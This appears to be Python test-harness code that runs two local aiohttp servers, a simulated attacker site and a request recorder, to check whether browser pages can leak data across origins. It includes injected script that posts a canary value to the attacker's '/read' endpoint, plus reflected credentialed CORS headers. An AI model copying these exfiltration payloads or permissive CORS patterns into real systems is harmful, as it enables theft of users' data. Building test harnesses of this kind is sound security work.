"""Two servers: the site of the attacker, and one that records what reaches it, as upstream or as control."""

from __future__ import annotations

import asyncio
import json
import ssl
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Final

from aiohttp import web

HERE: Final = Path(__file__).parent
CANARY: Final = "CANARY"
ATTACK: Final = "attack(new URL(location).searchParams.get('as'))"
SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'


@asynccontextmanager
async def serving(
    app: web.Application, port: int = 0, context: ssl.SSLContext | None = None
) -> AsyncIterator[int]:
    """The port of `app` on 127.0.0.1."""
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", port, ssl_context=context, reuse_address=True)
    await site.start()
    try:
        yield site.port
    finally:
        await runner.cleanup()


class Recorder:
    """Takes any request, and lets any page read the response: `hits` counts (the place, the method).

    A place is "attacker/kind/way", the end of the path. The query's `as` names the type of the response.
    """

    def __init__(self, attacker: str) -> None:
        self.attacker = attacker  # the origin to which a page of ours reports
        self.hits: Counter[tuple[str, str]] = Counter()
        self.heads: list[tuple[str, dict[str, str]]] = []

    def application(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._take)
        return app

    @property
    def places(self) -> set[str]:
        """Where a request that is no preflight has arrived."""
        return {place for place, method in self.hits if method != "OPTIONS"}

    async def _take(self, request: web.Request) -> web.StreamResponse:
        place = "/".join(request.path.split("/")[-3:])
        self.hits[place, request.method] += 1
        self.heads.append((place, {name.lower(): value for name, value in request.headers.items()}))
        kind = request.query.get("as", "")
        if kind == "ws" and request.headers.get("Upgrade", "").lower() == "websocket":
            socket = web.WebSocketResponse()
            await socket.prepare(request)
            await socket.send_str(CANARY)
            await socket.close()
            return socket
        await request.read()
        mime, body = self._body(kind, place)
        origin = request.headers.get("Origin", "*")
        headers = {
            "Access-Control-Allow-Origin": origin,
            "Access-Control-Allow-Methods": "GET, POST, PUT, DELETE, HEAD",
            "Access-Control-Allow-Headers": "x-api-key, authorization, content-type, user-agent, x-mine",
            "Cache-Control": "no-store",
        }
        if origin != "*":
            headers["Access-Control-Allow-Credentials"] = "true"
        return web.Response(text=body, content_type=mime, headers=headers)

    def _body(self, kind: str, place: str) -> tuple[str, str]:
        tells = json.dumps({"place": place, "data": CANARY})
        report = f'fetch("{self.attacker}/read",{{method:"POST",mode:"no-cors",body:{json.dumps(tells)}}})'
        again = "fetch(location,{method:'POST',body:'x'})"  # what a page in our own origin could do
        html = f"<!doctype html><body>{CANARY}<script>{report};{again}</script>"
        return {
            "js": ("text/javascript", f'self.leak && leak("{place}", "{CANARY}");'),
            "css": ("text/css", "p { color: red }"),
            "svg": ("image/svg+xml", SVG),
            "html": ("text/html", html),
            "sse": ("text/event-stream", f"retry: 600000\ndata: {CANARY}\n\n"),
            "vtt": ("text/vtt", "WEBVTT\n"),
        }.get(kind, ("application/json", f'"{CANARY}"'))


class Attacker:
    """The site of all attacking pages. `plans`: attacker -> the targets of its page, and the ways."""

    def __init__(self) -> None:
        self.plans: dict[str, list[dict[str, Any]]] = {}
        self.reads: dict[str, str] = {}  # place -> what has been read there
        self.done: set[str] = set()
        self.orders: asyncio.Queue[str] = asyncio.Queue()  # URLs for the browser to open

    def application(self) -> web.Application:
        app = web.Application()
        app.add_routes(
            [
                web.get("/driver", _page("driver.js")),
                web.get("/next", self._next),
                web.get("/pause", _pause),
                web.get(
                    "/attack",
                    _page("ways.js", "run.js", then=ATTACK),
                ),
                web.get("/plan", self._plan),
                web.post("/read", self._read),
                web.post("/done", self._done),
                web.get("/redirect/{code}", _redirect),
                web.post("/redirect/{code}", _redirect),
                web.get("/refresh", _refresh),
                web.get("/reports", _reports),
                web.get("/worker.js", _worker),
            ]
        )
        return app

    async def _next(self, _request: web.Request) -> web.Response:
        return web.json_response(await self.orders.get())

    async def _plan(self, request: web.Request) -> web.Response:
        plan = self.plans[request.query["as"]]
        return web.json_response(plan, headers={"Access-Control-Allow-Origin": "*"})

    async def _read(self, request: web.Request) -> web.Response:
        found = json.loads(await request.text())
        self.reads[found["place"]] = self.reads.get(found["place"], "") + str(found["data"])
        return web.Response()

    async def _done(self, request: web.Request) -> web.Response:
        self.done.add(request.query["as"])
        return web.Response()


def page(*scripts: str, then: str = "", origin: str = "") -> str:
    """A page that runs files of this folder. `origin`: the attacker's, where that of the page is another."""
    code = "\n".join((HERE / name).read_text() for name in scripts)
    if origin:
        code += f"\nrun_origin = {json.dumps(origin)};"
    return f"<!doctype html><meta charset=utf-8><title>t</title><body><script>\n{code}\n{then}</script>"


def _page(*scripts: str, then: str = "") -> Any:
    async def handler(_request: web.Request) -> web.Response:
        return web.Response(text=page(*scripts, then=then), content_type="text/html")

    return handler


async def _pause(request: web.Request) -> web.Response:
    await asyncio.sleep(int(request.query["ms"]) / 1000)
    return web.Response()


async def _redirect(request: web.Request) -> web.Response:
    headers = {"Location": request.query["to"], "Access-Control-Allow-Origin": "*"}
    return web.Response(status=int(request.match_info["code"]), headers=headers)


async def _refresh(request: web.Request) -> web.Response:
    target = f"0;url={request.query['to']}"
    if "header" in request.query:
        return web.Response(text="x", content_type="text/html", headers={"Refresh": target})
    return web.Response(text=f'<meta http-equiv="refresh" content="{target}">', content_type="text/html")


async def _reports(request: web.Request) -> web.Response:
    policy = f"img-src 'none'; report-uri {request.query['to']}"
    return web.Response(
        text="<!doctype html><img src=/x>",
        content_type="text/html",
        headers={"Content-Security-Policy": policy},
    )


async def _worker(request: web.Request) -> web.Response:
    code = f"fetch({json.dumps(request.query.get('to'))}, {{mode: 'no-cors'}}).catch(() => 0);"
    if "import" in request.query:
        code = f"try {{ importScripts({json.dumps(request.query['import'])}); }} catch {{}}"
    return web.Response(text=code, content_type="text/javascript", headers={"Cache-Control": "no-store"})
